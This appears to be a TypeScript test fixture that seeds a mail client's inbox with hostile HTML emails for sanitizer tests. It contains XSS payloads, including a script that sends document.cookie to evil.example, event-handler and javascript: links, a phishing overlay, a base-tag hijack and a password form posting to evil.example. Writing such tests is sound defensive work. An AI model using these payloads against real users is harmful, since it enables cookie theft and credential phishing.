// Hostile HTML for sanitizer tests: each mail carries one attack so a failing test names it.
import type { SeedMail } from './seed-mail';
import { ALICE, minutesAgo } from './clock';

const MALLORY = 'Mallory <mallory@evil.example>';

const attacks: { id: string; subject: string; html: string }[] = [
  {
    id: 'script',
    subject: 'Your invoice (script)',
    html: '<p>Invoice attached.</p><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
  },
  {
    id: 'onerror',
    subject: 'Photo from the party (onerror)',
    html: '<p>Look!</p><img src="x" onerror="alert(\'pwned\')"><div onmouseover="alert(1)">hover me</div>',
  },
  {
    id: 'javascript-link',
    subject: 'Verify your account (javascript: link)',
    html: '<p>Please <a href="javascript:alert(document.domain)">verify your account</a> or <a href="JaVaScRiPt:void(0)">here</a>.</p>',
  },
  {
    id: 'tracking',
    subject: 'Weekly deals (remote images)',
    html: '<p>Deals inside.</p><img src="https://tracker.evil.example/pixel.gif?u=alice" width="1" height="1"><div style="background:url(https://tracker.evil.example/bg.png)">Sale!</div>',
  },
  {
    id: 'overlay',
    subject: 'Security notice (fixed overlay)',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">Your session expired. <a href="https://evil.example/login">Log in again</a></div><p>Real content</p>',
  },
  {
    id: 'base',
    subject: 'Docs moved (base tag)',
    html: '<base href="https://evil.example/"><p>See <a href="docs">the docs</a> and <img src="logo.png" alt="logo">.</p>',
  },
  {
    id: 'form',
    subject: 'Confirm your password (form)',
    html: '<form action="https://evil.example/collect" method="post"><label>Password <input type="password" name="pw"></label><button>Confirm</button></form>',
  },
  {
    id: 'style',
    subject: 'Newsletter (global styles)',
    html: '<style>body{display:none} *{color:red!important} .compose-toolbar{visibility:hidden}</style><p>Styled newsletter</p>',
  },
  {
    id: 'iframe',
    subject: 'Video for you (iframe)',
    html: '<iframe src="https://evil.example/frame" width="600" height="400"></iframe><object data="https://evil.example/x.swf"></object>',
  },
];

export function hostileMails(): SeedMail[] {
  return attacks.map((a, i) => ({
    folder: 'inbox',
    id: `seed-hostile-${a.id}`,
    from: MALLORY,
    to: ALICE,
    subject: a.subject,
    html: `<html><body>${a.html}</body></html>`,
    date: minutesAgo(3000 + i * 30),
    unread: true,
  }));
}
